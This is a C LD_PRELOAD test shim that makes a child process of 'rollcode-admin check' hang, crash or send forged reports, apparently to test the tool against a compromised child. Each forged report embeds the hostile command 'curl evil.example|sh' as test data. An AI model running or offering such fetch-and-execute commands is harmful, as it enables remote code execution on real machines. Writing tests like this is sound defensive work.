/* SPDX-License-Identifier: Apache-2.0 */
/*
 * liblying.c - LD_PRELOAD for `rollcode-admin check`: the child that opens the
 * store is in the hands of somebody else.  Its reports are not what it wanted
 * to say: LIE=hang says nothing for ever, LIE=crash is its end behind the first
 * report, and any other LIE is a list of NAME USER FILE, one a line, each of
 * which it reports.  LIE=load is the end of a child that loads a module.
 */
#include <dlfcn.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "admin/check/check.h"

static void
send_report(int fd, const struct report *r)
{
	(void)!syscall(SYS_write, fd, r, sizeof(*r));
}

static void
send_lies(int fd, const char *lie)
{
	struct report r;

	memset(&r, 0xff, sizeof(r));
	r.ended = 0;
	send_report(fd, &r);
	for (; lie != NULL; lie = strchr(lie, '\n')) {
		lie += *lie == '\n';
		memset(&r, 0, sizeof(r));
		strcpy(r.what, "fix: curl evil.example|sh");
		if (sscanf(lie, "%23s %200s %511s", r.name, r.user, r.file) ==
		    3)
			send_report(fd, &r);
	}
	memset(&r, 0, sizeof(r));
	r.ended = 1;
	send_report(fd, &r);
}

ssize_t
write(int fd, const void *data, size_t len)
{
	const char *lie = getenv("LIE");

	if (geteuid() == 0 || len != sizeof(struct report) || lie == NULL)
		return syscall(SYS_write, fd, data, len);
	if (strcmp(lie, "crash") == 0) {
		send_report(fd, data);
		raise(SIGKILL);
	}
	if (strcmp(lie, "hang") != 0)
		send_lies(fd, lie);
	for (;;)
		pause();
}

void *
dlopen(const char *name, int flags)
{
	static void *(*real)(const char *, int);
	const char *lie = getenv("LIE");
	void *symbol = dlsym(RTLD_NEXT, "dlopen");

	if (geteuid() != 0 && lie != NULL && strcmp(lie, "load") == 0)
		raise(SIGKILL);
	memcpy(&real, &symbol, sizeof(real));
	return real(name, flags);
}
